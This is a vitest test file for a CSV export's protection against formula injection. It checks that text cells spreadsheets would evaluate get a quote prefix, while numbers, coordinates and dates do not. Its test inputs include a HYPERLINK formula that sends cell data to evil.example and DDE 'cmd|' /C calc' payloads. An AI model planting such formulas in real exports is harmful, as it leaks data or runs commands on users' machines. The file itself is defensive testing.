/**
 * CSV injection: text cells a spreadsheet would run as a formula get the
 * prefix; numbers, coordinates, dates and ordinary text do not.
 */
import { describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config.js";
import { csvLine, neutralizeFormula, renderCsv } from "../../src/exports/csv.js";
import type { ExportRow } from "../../src/exports/rows.js";
import { parseCsv } from "../exports/csv-parse.js";

const ON = "'";

describe("neutralizeFormula", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ["=1+1", "'=1+1"],
    ["+1+1", "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["-", "'-"],
    ["- see the annex", "'- see the annex"],
    ["+255 22 123 4567 ext. 5", "'+255 22 123 4567 ext. 5"],
    ["-1e3", "'-1e3"], // not how PostgreSQL writes a number: treated as text
  ])("prefixes %j", (text, expected) => {
    expect(neutralizeFormula(text, ON)).toBe(expected);
  });

  it.each([
    "-1500.00", // a negative budget
    "+42",
    "-12.3 45.6", // coordinates, lat long
    "-6.8 39.28,-6.79 39.21", // several
    "-3,-4.5",
    "2012-01-01", // a date starts with a digit
    "Basic health care",
    "Child health = priority",
    "ann@example.org",
    "",
    "12220,12240",
  ])("leaves %j as it is", (text) => {
    expect(neutralizeFormula(text, ON)).toBe(text);
  });

  it("is off with a null prefix, and uses the configured one", () => {
    expect(neutralizeFormula("=1+1", null)).toBe("=1+1");
    expect(neutralizeFormula("=1+1", "!")).toBe("!=1+1");
  });
});

describe("csvLine", () => {
  it("prefixes text cells, not numbers, and quotes after prefixing", () => {
    const line = csvLine(["=1+1", 42, "-7.5", "\r=cmd", "a,b", null], { formulaPrefix: ON });
    expect(parseCsv(line)[0]!.slice(0, 6)).toEqual(["'=1+1", "42", "-7.5", "'\r=cmd", "a,b", ""]);
    expect(line.startsWith('\'=1+1,42,-7.5,"\'\r=cmd","a,b",')).toBe(true);
  });
});

describe("renderCsv", () => {
  it("protects every text field of PMT's report, the disclaimer too, when on, and none when off", async () => {
    const row = {
      project_id: 1,
      project_title: "=cmd|' /C calc'!A0",
      project_description: "@SUM(A1)",
      data_group: "+x",
      project_start_date: "2010-01-01",
      project_end_date: "2012-12-31",
      project_budget: "-100.50",
      activity_id: 2,
      iati_identifier: null,
      title: "-2+3",
      description: "\tTab",
      sector_names: "Basic health care",
      sector_codes: "12220",
      coordinates: "-6.8 39.28,-6.79 39.21",
      country_names: "Tanzania",
      funding: "=A1",
      implementing: "Org",
      start_date: "2010-02-01",
      end_date: "2011-01-01",
      budget: "-5",
      status_names: "Implementation",
    } as ExportRow;
    async function* rows() {
      yield row;
    }
    const render = async (formulaPrefix: string | null) => {
      let text = "";
      for await (const chunk of renderCsv({ databaseVersion: "2.0.8.51", retrievalDate: "2026-01-01", filters: "none", disclaimer: "=Disclaimer" }, rows(), {
        formulaPrefix,
      }))
        text += chunk;
      return parseCsv(text);
    };
    const on = await render(ON);
    expect(on[1]![0]).toBe("'=Disclaimer");
    expect(on[3]!.slice(0, 8)).toEqual(["", "1", "'=cmd|' /C calc'!A0", "'@SUM(A1)", "'+x", "2010-01-01", "2012-12-31", "-100.50"]);
    expect(on[5]!.slice(0, 14)).toEqual([
      "",
      "2",
      "'-2+3",
      "'\tTab",
      "Basic health care",
      "12220",
      "-6.8 39.28,-6.79 39.21",
      "Tanzania",
      "'=A1",
      "Org",
      "2010-02-01",
      "2011-01-01",
      "-5",
      "Implementation",
    ]);
    const off = await render(null);
    expect(off[3]![2]).toBe("=cmd|' /C calc'!A0");
    expect(off[5]![8]).toBe("=A1");
  });
});

describe("EXPORT_CSV_FORMULA_PREFIX", () => {
  const prefix = (value?: string) => loadConfig(value === undefined ? {} : { EXPORT_CSV_FORMULA_PREFIX: value }, "/nonexistent/.env").exportCsvFormulaPrefix;
  it("is on (a single quote) by default; off, on or one character", () => {
    expect(prefix()).toBe("'");
    expect(prefix("on")).toBe("'");
    expect(prefix("off")).toBeNull();
    expect(prefix("!")).toBe("!");
  });
  it.each(["=", "-", "x", "0", "''", "yes", '"', ","])("refuses %j with what it expects", (value) => {
    expect(() => prefix(value)).toThrow(/EXPORT_CSV_FORMULA_PREFIX: expected on, off, or the one character/);
  });
});
